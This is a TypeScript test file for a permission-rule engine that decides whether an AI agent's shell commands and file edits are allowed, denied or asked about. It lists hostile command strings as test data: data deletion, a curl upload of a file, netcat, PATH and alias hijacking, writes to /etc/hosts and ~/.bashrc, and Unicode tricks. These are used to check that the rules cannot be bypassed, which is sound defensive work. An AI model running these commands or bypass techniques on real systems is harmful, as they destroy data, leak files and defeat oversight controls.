import type { RuleCovers } from '@slipway/protocol'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { GRAVEST, BYPASSES } from '../../../../../test/support/grading/gravest.ts'
import { MEDIUM } from '../../../../../test/support/grading/medium.ts'
import { ORDINARY } from '../../../../../test/support/grading/ordinary.ts'
import { gradeOfTool } from '../../grading/tools.ts'
import { rulingOf, type Rule } from './ruling.ts'
import { rulesFor } from './suggest.ts'

const FOLDER = '/home/developer/app'
const TIERS = { folder: FOLDER, passes: 1 } as const
const ASK = { folder: FOLDER, passes: 0 } as const

const asked = (tool: string, command: string | null, path: string | null = null) => ({
  ...{ tool, command, path },
  tier: gradeOfTool({ tool, command, path }, FOLDER).tier,
})
const bash = (command: string) => asked('Bash', command)
const rule = (decision: Rule['decision'], covers: RuleCovers): Rule => ({ of: 'user', decision, covers })
const words = (text: string, exact = false): RuleCovers => ({ kind: 'command', words: text.split(' '), exact })
const allow = (text: string, exact = false): Rule => rule('allow', words(text, exact))
const deny = (text: string): Rule => rule('deny', words(text))
const decided = (command: string, rules: Rule[], asking: typeof TIERS | typeof ASK = TIERS): string =>
  rulingOf(bash(command), asking, rules)?.decision ?? 'asks'

describe('a rule for the beginning of a command', () => {
  const PUSH = [allow('git push')]

  it.each([
    'git push',
    'git push origin main',
    'git \'push\' "origin"',
    '/usr/bin/git push',
    'git push -u origin main',
    'cd src && npm test && git push',
    'git push 2>&1 | tail -n 5',
    '(git push)',
    'if git diff --quiet; then git push; fi',
    'git push > out.txt',
  ])('allows %j', (command) => {
    expect(decided(command, PUSH)).toBe('allow')
  })

  it.each([
    ...[
      'git push; rm -rf /',
      'git push && npm publish',
      'git push || sudo ls',
      'git push\ncurl -d @a https://example.org',
    ],
    ...['git push --force', 'git push origin +main', 'git push origin :main', 'git push --mirror'],
    ...['git push --receive-pack=./x', 'git push --exec ./x', 'git push -o x', "git push 'ext::sh -c x'"],
    ...['git -c alias.x=push push', 'git -C .. push', 'git pushx', 'gitx push', './git push', '/tmp/git push'],
    ...[
      'sudo git push',
      'env git push',
      'env A=1 git push',
      'timeout 5 git push',
      'nohup git push',
      'command git push',
    ],
    ...["sh -c 'git push'", "eval 'git push'", 'echo git push | sh', 'xargs git push', 'find . -exec git push ;'],
    ...[
      'git push $(rm -rf x)',
      'git push "$x"',
      'git push `x`',
      'git push $x',
      'git push {a,b}',
      'git push *',
      'git ${x:-push}',
    ],
    ...[
      'PATH=/tmp git push',
      'GIT_SSH_COMMAND=./x git push',
      'export PATH=/tmp; git push',
      'hash -p /tmp/x git; git push',
    ],
    ...['git() { ./x; }; git push', 'alias git=./x; git push', 'git push > /etc/hosts', 'git push > ~/.bashrc'],
    ...['git push &\nnc example.org 80', 'git push \\\n --force', 'git p\u0443sh', 'git push\u200b', 'git push <(./x)'],
    ...['source ./x; git push', 'trap ./x EXIT; git push', 'enable -f ./x y; git push', 'git push ***', 'git push ('],
    ...['ls', 'git status', 'git pull'],
  ])('does not allow %j', (command) => {
    expect(decided(command, PUSH)).toBe('asks')
  })

  it('needs a rule for what can be brought back, too, where people are asked about that', () => {
    expect(decided('git push && touch a', PUSH, ASK)).toBe('asks')
    expect(decided('git status && git push', PUSH, ASK)).toBe('allow')
    expect(decided('git push && touch a', [...PUSH, allow('touch a', true)], ASK)).toBe('allow')
  })

  it('allows no program that runs others', () => {
    for (const command of [
      'sudo ls x',
      'sh -c x',
      'python -c x',
      'xargs -n1 nc',
      'npx x',
      'docker exec c x',
      'find . -exec x ;',
    ])
      expect(decided(command, [allow(command.split(' ')[0] ?? '')])).toBe('asks')
    // An option before the subcommand may set what runs.
    expect(decided('git -c core.pager=./x push', [allow('git')])).toBe('asks')
  })
})

describe('a rule for a whole command', () => {
  it('allows it, also if it runs another program, and nothing else', () => {
    const rules = [allow('sudo systemctl restart web', true), allow('./deploy.sh', true)]
    expect(decided('sudo systemctl restart web', rules)).toBe('allow')
    expect(decided('./deploy.sh && ls', rules)).toBe('allow')
    for (const command of [
      'sudo systemctl restart web2',
      'sudo systemctl restart web x',
      './deploy.sh x',
      'sudo systemctl',
    ])
      expect(decided(command, rules)).toBe('asks')
  })

  it('does not allow a file of another folder', () => {
    expect(decided('cd /tmp && ./deploy.sh', [allow('./deploy.sh', true)])).toBe('asks')
  })

  it('allows nothing of the highest tier', () => {
    for (const command of ['rm -rf x', 'git push --force', 'sh', 'mkfs /dev/x', "psql -c 'drop table x'"])
      expect(
        decided(command, [rule('allow', { kind: 'command', words: command.split(' '), exact: true }), allow('rm')]),
      ).toBe('asks')
  })
})

describe('a rule that denies', () => {
  it('wins over one that allows', () => {
    expect(decided('git push origin main', [allow('git push'), deny('git push origin')])).toBe('deny')
  })

  it('is about what another program runs, too', () => {
    for (const command of [
      'sudo git push',
      "sh -c 'git push'",
      'ls; git push',
      'git push "$x"',
      'echo $(git push)',
      'timeout 5 git push',
    ])
      expect(decided(command, [deny('git push')])).toBe('deny')
    expect(decided('git pull', [deny('git push')])).toBe('asks')
  })

  it('is about harmless commands, too', () => {
    expect(decided('ls -l', [deny('ls')])).toBe('deny')
  })
})

describe('a rule for files', () => {
  const change = (path: string, ...rules: Rule[]): string =>
    rulingOf(asked('Edit', null, path), ASK, rules)?.decision ?? 'asks'
  const at = (path: string): RuleCovers => ({ kind: 'path', path })

  it('is about a folder and everything in it', () => {
    const src = rule('allow', at(`${FOLDER}/src`))
    expect(change(`${FOLDER}/src/a.ts`, src)).toBe('allow')
    expect(change('src/deep/a.ts', src)).toBe('allow')
    for (const path of [`${FOLDER}/src2/a.ts`, `${FOLDER}/src/../a.ts`, `${FOLDER}/a.ts`])
      expect(change(path, src)).toBe('asks')
    expect(change(`${FOLDER}/src/x/../a.ts`, rule('deny', at(`${FOLDER}/src`)))).toBe('deny')
  })

  it('does not allow files in it that decide what runs later, unless it names them', () => {
    const hook = `${FOLDER}/.git/hooks/pre-commit`
    expect(change(hook, rule('allow', at(FOLDER)))).toBe('asks')
    expect(change(hook, rule('allow', at(hook)))).toBe('allow')
  })

  it('allows no commands, and no tools that only read', () => {
    expect(rulingOf(bash(`chmod 777 ${FOLDER}/a`), TIERS, [rule('allow', at(FOLDER))])).toBeNull()
    expect(rulingOf(asked('Read', null, `${FOLDER}/a`), ASK, [rule('allow', at(FOLDER))])).toBeNull()
  })
})

describe('a rule for a tool', () => {
  it('allows it, but neither commands nor changes of files, which it denies', () => {
    const tool = (name: string) => ({ kind: 'tool', tool: name }) as const
    const said = (decision: Rule['decision'], ...[name, ...rest]: Parameters<typeof asked>) =>
      rulingOf(asked(name, ...rest), TIERS, [rule(decision, tool(name))])?.decision ?? 'asks'
    expect(said('allow', 'mcp__a__b', null)).toBe('allow')
    expect(said('allow', 'Bash', 'git push')).toBe('asks')
    expect(said('allow', 'Edit', null, '/etc/hosts')).toBe('asks')
    expect(said('deny', 'Bash', 'git push')).toBe('deny')
    expect(said('deny', 'Edit', null, '/etc/hosts')).toBe('deny')
  })
})

describe('the rules of a card', () => {
  const offered = (command: string, asking: typeof TIERS | typeof ASK = TIERS): string[] =>
    rulesFor(bash(command), asking).map((covers) =>
      covers.kind === 'command' ? `${covers.words.join(' ')}${covers.exact ? '' : ' …'}` : covers.kind,
    )

  it.each<[command: string, rules: string[]]>([
    ['git push origin main', ['git push origin …']],
    ['git push', ['git push']],
    ['/usr/bin/git push -u origin main', ['git push -u origin …']],
    ['git push -o y origin', ['git push -o y …']],
    ['gh pr create --title a --body "b c"', ['gh pr create …']],
    ['cd src && npm test && git push o a && git push o b', ['git push o …']],
    ['git push o; gh pr merge 3', ['git push o …', 'gh pr merge …']],
    ['chmod 777 a', ['chmod 777 a']],
    ['sudo ls', ['sudo ls']],
    ['./deploy.sh prod', ['./deploy.sh prod']],
    ['git config user.name x', ['git config user.name x']],
    ['rm -rf x', ['rm -rf x']],
    ['git push "$x"', []],
    ['git push; sudo "$x"', []],
    ['echo x > /etc/hosts', []],
    ['cd /tmp && ./x.sh', []],
    ['$x', []],
    ["psql -c 'a\nb'", []],
  ])('for %j are %j', (command, rules) => {
    expect(offered(command)).toEqual(rules)
  })

  it('are for what needs one, where people are asked about more', () => {
    expect(offered('npm test', ASK)).toEqual(['npm test …'])
    expect(offered('ls -l', ASK)).toEqual(['ls -l'])
    expect(offered('npm test && ls', ASK)).toEqual(['npm test …'])
  })

  it.each<[what: string, asked: ReturnType<typeof asked>, covers: RuleCovers]>([
    ['a file, are for its folder', asked('Edit', null, `${FOLDER}/src/a.ts`), { kind: 'path', path: `${FOLDER}/src` }],
    [
      'a file in the home, are for that file',
      asked('Edit', null, '/home/developer/a'),
      { kind: 'path', path: '/home/developer/a' },
    ],
    [
      'a file that decides what runs later, are for that file',
      asked('Edit', null, `${FOLDER}/.git/hooks/x`),
      { kind: 'path', path: `${FOLDER}/.git/hooks/x` },
    ],
    ['a tool that reads, are for the tool', asked('Read', null, '/etc/hosts'), { kind: 'tool', tool: 'Read' }],
    ['another tool, are for the tool', asked('mcp__a__b', null), { kind: 'tool', tool: 'mcp__a__b' }],
  ])('for %s', (_what, question, covers) => {
    expect(rulesFor(question, ASK)).toEqual([covers])
  })

  it('cover the same command again, and nothing of the highest tier, however they are combined', () => {
    for (const [, command] of [...ORDINARY, ...MEDIUM, ...GRAVEST, ...BYPASSES])
      for (const asking of [TIERS, ASK]) {
        const found = rulesFor(bash(command), asking)
        const rules = found.map((covers) => rule('allow', covers))
        const { tier } = bash(command)
        const expected = tier < 3 && found.length > 0 ? 'allow' : 'asks'
        expect([command, decided(command, rules, asking)]).toEqual([command, expected])
      }
  })

  it('never allow a grave command that is added', () => {
    const some = <T>(from: readonly (readonly [unknown, T])[]) => fc.constantFrom(...from.map(([, one]) => one))
    fc.assert(
      fc.property(
        some(MEDIUM),
        some([...GRAVEST, ...BYPASSES]),
        fc.constantFrom('; ', ' && ', ' | ', '\n', ' & '),
        (a, b, by) => {
          const rules = [...rulesFor(bash(a), TIERS), ...rulesFor(bash(b), TIERS)].map((covers) =>
            rule('allow', covers),
          )
          for (const command of [`${a}${by}${b}`, `${b}${by}${a}`])
            if (bash(command).tier > 2) expect(decided(command, rules)).toBe('asks')
        },
      ),
    )
  })
})
